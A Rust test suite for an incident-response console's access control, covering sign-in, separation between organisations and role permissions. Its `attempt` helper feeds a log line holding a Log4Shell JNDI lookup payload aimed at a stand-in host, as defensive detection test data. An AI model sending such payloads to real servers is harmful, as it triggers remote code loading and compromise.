//! Every page of the console and every form, from the table that the console is built from: what
//! they say and do without a sign-in, to people of another body, and to each role.

use std::collections::BTreeSet;
use std::path::Path;
use std::sync::Arc;

use relight_engine::Smashing;
use relight_engine::access::{Grant, Role, Scope};
use relight_engine::plan::{Action, PlanAsk};
use relight_engine::policy::{Means, Person, Policy};
use relight_engine::store::{AgentCodeRow, Enrolment, Store};
use relight_engine::watch::Feed;
use relight_model::{Digest, GateKey};
use relight_server::agents::{AGENT_KEY_FILE, AgentDesk};
use relight_server::{Who, console_pages, policy_file};
use tempfile::TempDir;

use crate::door_device::form;
use crate::door_support::{START, World, clock, code_in, person, token};
use crate::web_acts::{LOG4SHELL, acts, behind_an_edge, field, open_incident, propose};
use crate::web_console::{ask, follow};

/// What everybody reaches: how one comes in, and what a page needs. It tells nothing of sites.
const OPEN: [&str; 7] = [
    "/assets/{name}",
    "/look",
    "/policy-reports",
    "/sign-in",
    "/sign-in/oidc",
    "/sign-in/oidc/back",
    "/start",
];

/// What says that a site of the hospital is there.
const SECRETS: [&str; 4] = ["Name care", "Nom care", "Name beds", "Hospital"];

/// The three sites, an open incident, a plan for one of them, and people: one with each role
/// everywhere, two who have all of them together in another body, and one without any.
struct Place {
    world: World,
    roles: Vec<(Role, String)>,
    others: [String; 3],
    /// What was read of the plan that waits.
    hash: String,
    /// Glass that was broken and that nobody reviewed.
    glass: Digest,
    /// Digest and key of a policy that nobody confirmed.
    policy: [String; 2],
    /// A campaign that was seen at a site of the utility.
    campaign: String,
    _keys: TempDir,
}

impl Place {
    fn start(clock: fn() -> i64) -> Self {
        let (mut chief, mut others, mut roles) = (String::new(), Default::default(), Vec::new());
        let keys = tempfile::tempdir().unwrap();
        let world = World::start_with(
            clock,
            |config| {
                let engine = Arc::clone(config.engine.as_ref().unwrap());
                let desk = AgentDesk::open(engine, &keys.path().join(AGENT_KEY_FILE));
                config.agents = Some(Arc::new(desk.unwrap()));
                // Whoever is let in knows the key, which has to be there before.
                enrol(config.engine.as_ref().unwrap().store());
            },
            |store| {
                behind_an_edge(store);
                chief = person(store, "chief", 1, &[("commander", "/")]);
                // Nobody has all of them: an admin neither commands nor approves.
                let (admin, all): (Vec<_>, Vec<_>) = Role::ALL
                    .map(|role| (role.as_str(), "energy/Utility"))
                    .into_iter()
                    .partition(|(role, _)| *role == Role::Admin.as_str());
                others = [
                    person(store, "foreign", 2, &all),
                    person(store, "foreign-admin", 3, &admin),
                    person(store, "stranger", 4, &[]),
                ];
                for (role, number) in Role::ALL.into_iter().zip(10..) {
                    let (name, grant) = (format!("a-{}", role.as_str()), [(role.as_str(), "/")]);
                    roles.push((role, person(store, &name, number, &grant)));
                }
            },
        );
        open_incident(&world, &chief);
        let (status, to) = propose(&world, &chief, "care");
        assert_eq!(status, 303, "{to}");
        let hash = code_in(&world.get("/approve/A-0001?lang=en", &chief).2);
        let by = |role| &roles.iter().find(|it: &&(Role, String)| it.0 == role).unwrap().1;
        let asked = [("name", "stranger"), ("role", "approver"), ("scope", "/")];
        assert_eq!(world.act(by(Role::Admin), ("/accounts", "/accounts/grant"), &asked).0, 200);
        let (glass, campaign) = (break_glass(&world), attempt(&world));
        let policy = replace_policy(&world, keys.path(), by(Role::Approver));
        Self { world, roles, others, hash, glass, policy, campaign, _keys: keys }
    }

    /// Everything that somebody decided, who may what, and by what they come in.
    fn standing(&self) -> String {
        let tables = self.world.store.account_tables().unwrap();
        let agents = self.world.store.agents().unwrap();
        let who = (tables.accounts, tables.grants, tables.proposals, agents);
        let by = (tables.tokens, tables.passkeys, tables.invitations);
        format!("{:?} {who:?} {by:?}", acts(&self.world))
    }

    /// All that forms of the console ask for, about what is the hospital's, by whoever this is.
    fn fields(&self, cookie: &str) -> String {
        let ask = "/plan?lang=en&action=dark&which=named&sites=beds&reason=x";
        let ask = &format!("{ask}&incident={LOG4SHELL}");
        let [own, plan] = ["/me", ask].map(|path| self.world.get(path, cookie).2);
        let has = |page: &str, name: &str| page.contains(&format!("name=\"{name}\" value="));
        let token = if has(&own, "token") { token(&own) } else { "x".into() };
        let seen = if has(&plan, "seen") { field(&plan, "seen") } else { "x".into() };
        form(&[
            ("token", &token),
            ("incident", LOG4SHELL),
            ("action", "dark"),
            ("which", "named"),
            ("sites", "beds"),
            ("site", "care"),
            ("org", "Hospital"),
            ("reason", "x"),
            ("seen", &seen),
            ("decision", "refuse"),
            ("hash", &self.hash),
            ("act", "analyse"),
            ("note", "x"),
            ("days", "1"),
            ("fr", "Bonjour"),
            ("en", "Hello"),
            ("name", "target"),
            ("role", "viewer"),
            ("scope", "/"),
            ("id", "1"),
            ("answer", "confirm"),
            ("organisation", "Hospital"),
            ("host", "web-1"),
            ("measure", "mfa"),
            ("value", "yes"),
            ("evidence", "x"),
            ("format", "stix"),
            ("purpose", "x"),
            ("label", "ci"),
            ("ticket", "x"),
            ("code", "x"),
            ("digest", &self.policy[0]),
            ("key", &self.policy[1]),
            ("plan", &self.glass.to_string()),
            ("until", "1"),
        ])
    }

    /// The status and the text of a page or of the answer to a form; of a stream, which has no
    /// end, its first lines.
    fn send(&self, (method, path): (&str, &str), cookie: &str, fields: &str) -> (u16, String) {
        let id = if path.starts_with("/approve") { "A-0001" } else { LOG4SHELL };
        let path = path.replace("{id}", id).replace("{slug}", "care").replace("{name}", "nothing");
        let path = match path.as_str() {
            "/watch/tell" => format!("{path}?q={}", self.campaign),
            _ => path,
        };
        if path == "/events" {
            let request = format!("GET {path} HTTP/1.1\r\nCookie: {cookie}\r\n");
            let end = |lines: &[String]| lines.iter().any(String::is_empty);
            let lines = follow(self.world.address(), &request, end);
            return (lines[0].split(' ').nth(1).unwrap().parse().unwrap(), lines.concat());
        }
        let (status, head, body) = match method {
            "GET" => self.world.get(&path, cookie),
            _ if path.starts_with("/watch/") => {
                let named = fields.replace("&id=1&", &format!("&id={}&", self.campaign));
                self.world.post(&path, cookie, &named)
            }
            _ => self.world.post(&path, cookie, fields),
        };
        (status, head + &body)
    }
}

/// An agent of the hospital, which is the first one.
fn enrol(store: &Store) {
    let (code, made_by) = (Digest([1; 32]), "test".to_owned());
    let mut bodies = store.organisations().unwrap().into_iter();
    let org = bodies.find(|body| body.name == "Hospital").unwrap().id;
    let row = AgentCodeRow { digest: code, org, host: "*".into(), expires: i64::MAX, made_by };
    store.put_agent_code(&row, START).unwrap();
    let (host, expires) = ("web-1", i64::MAX);
    store.enrol_agent(Enrolment { code, host, fingerprint: code, expires, now: START }).unwrap();
}

/// Glass that is broken for the site of the utility, in an incident of its own: it stays dark.
fn break_glass(world: &World) -> Digest {
    let incident = world.engine.open_incident("chief", "CVE-2021-45046", "").unwrap();
    let policy = Policy::signed(Digest([7; 32]), 5, 200);
    let grants = vec![Grant { role: Role::Commander, scope: Scope::root() }];
    let chief = Person { name: "chief".into(), grants, means: Means::HardwareKey };
    let ask = PlanAsk {
        incident,
        action: Action::Dark,
        part: None,
        reason: "x".into(),
        advisory_revision: Digest::default(),
        policy: policy.digest,
        proposer: chief.name.clone(),
        created: world.engine.now(),
    };
    let plan = world.engine.plan(ask, &[GateKey::new("power").unwrap()]).unwrap();
    let hash = plan.hash().unwrap();
    let smashing = Smashing { hash, reason: "x", proof: None };
    world.engine.smash_glass(&policy, &chief, &plan, smashing).unwrap();
    hash
}

/// Somebody tries a payload at the site of the utility; the id of the campaign.
fn attempt(world: &World) -> String {
    let sites = world.store.sites().unwrap();
    let site = sites.into_iter().find(|site| site.slug.as_str() == "power").unwrap();
    let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /?q=${jndi:ldap://x.test/a} \
                HTTP/1.1\" 404 12 \"-\" \"-\"\n";
    world.engine.ingest_log(&feed, std::io::Cursor::new(line)).unwrap();
    world.engine.campaigns().unwrap().campaigns[0].id.clone()
}

/// Somebody at the machine signs a policy, which waits for one who decides: its digest and key, as
/// that one is shown them.
fn replace_policy(world: &World, keys: &Path, approver: &str) -> [String; 2] {
    let folder = world.store.path().parent().unwrap();
    std::fs::write(folder.join(policy_file::POLICY_FILE), "").unwrap();
    policy_file::sign(folder, &world.store, &keys.join("key"), false).unwrap();
    let page = world.get("/plans?lang=en", approver).2;
    ["digest", "key"].map(|name| field(&page, name))
}

/// Method, address, who is let through and with which roles; last what puts an end to something.
fn pages() -> Vec<(&'static str, &'static str, Who, &'static [Role])> {
    let all = console_pages().into_iter();
    let mut all: Vec<_> = all.map(|it| (it.method, it.path, it.who, it.roles)).collect();
    let is_last =
        |path: &str| ["/close", "/end", "/sign-out"].iter().position(|it| path.ends_with(it));
    all.sort_by_key(|it| is_last(it.1));
    all
}

#[test]
fn every_page_and_form_asks_to_sign_in_but_those_that_let_in() {
    clock!(now, now_set);
    now_set(START);
    let place = Place::start(now);
    let (before, mut open, fields) = (place.standing(), BTreeSet::new(), place.fields(""));
    for (method, path, who, _) in pages() {
        for cookie in ["", "__Host-rl=AAAA"] {
            let (status, text) = place.send((method, path), cookie, &fields);
            for secret in SECRETS {
                assert!(!text.contains(secret), "{method} {path}: {secret} in {text}");
            }
            let is_led = status == 303 && text.contains("location: /sign-in?next=%2f");
            let is_asked = status == 401 || (is_led && method == "GET");
            assert_eq!(is_asked, who != Who::Open, "{method} {path}: {status} {text}");
            if !is_asked {
                open.insert(path);
            }
        }
        if method == "GET" && who != Who::Open {
            let plain = format!("GET {path} HTTP/1.1\r\nAccept: application/json\r\n");
            assert_eq!(ask(place.world.address(), &plain).0, 401, "{path}");
        }
    }
    assert_eq!(open, OPEN.into(), "what is open is named here");
    assert_eq!(place.standing(), before, "nobody did anything");
    place.world.web.stop();
}

/// Goal: no page and no form says or does anything about sites of another body, and what shows the
/// whole register is for those who read it. Method: each of the table, about the hospital, by
/// somebody with every role at the utility but that of an admin, by an admin there, and by somebody
/// without one.
#[test]
fn no_page_and_no_form_leads_to_sites_of_another_body() {
    clock!(now, now_set);
    now_set(START);
    let place = Place::start(now);
    let before = place.standing();
    for cookie in &place.others {
        let fields = place.fields(cookie);
        for (method, path, who, roles) in pages() {
            let (status, text) = place.send((method, path), cookie, &fields);
            assert!(status != 401 && status < 500, "{method} {path}: {status} {text}");
            for secret in SECRETS {
                assert!(!text.contains(secret), "{method} {path}: {secret} in {text}");
            }
            let is_kept = if method == "GET" { status == 403 } else { status >= 400 };
            let is_whole = who == Who::Whole;
            let is_for_some = method == "POST" && !roles.is_empty();
            assert!(is_kept || !(is_whole || is_for_some), "{method} {path}: {status} {text}");
            // The stream is refused to whoever has nothing to follow.
            let is_exact = method == "GET" && path != "/events";
            assert!(!is_exact || is_kept == is_whole, "{method} {path}: {status} {text}");
            assert_eq!(place.standing(), before, "{method} {path}: {status} {text}");
        }
    }
    place.world.web.stop();
}

/// Goal: a form does what it says for one of the roles that the table names, and nothing for any
/// other. Method: each of the table by people with one role everywhere; first by those who may not,
/// while there is still something to do.
#[test]
fn each_role_reaches_the_pages_and_forms_that_are_its_own() {
    clock!(now, now_set);
    now_set(START);
    let place = Place::start(now);
    let fields: Vec<_> = place.roles.iter().map(|it| place.fields(&it.1)).collect();
    for (method, path, _, roles) in pages() {
        let may = |role| roles.is_empty() || roles.contains(role);
        let mut people: Vec<_> = place.roles.iter().zip(&fields).collect();
        people.sort_by_key(|((role, _), _)| may(role));
        let mut is_done = false;
        for ((role, cookie), fields) in people {
            let before = place.standing();
            let (status, text) = place.send((method, path), cookie, fields);
            let told = format!("{} {method} {path}: {status} {text}", role.as_str());
            if !may(role) {
                assert!(status >= 400, "{told}");
                assert_eq!(place.standing(), before, "{told}");
            } else if method == "GET" {
                assert!(status != 401 && status != 403 && status < 500, "{told}");
            }
            is_done |= may(role) && status < 400;
        }
        assert!(is_done || roles.is_empty(), "{method} {path}: nobody did it");
    }
    place.world.web.stop();
}
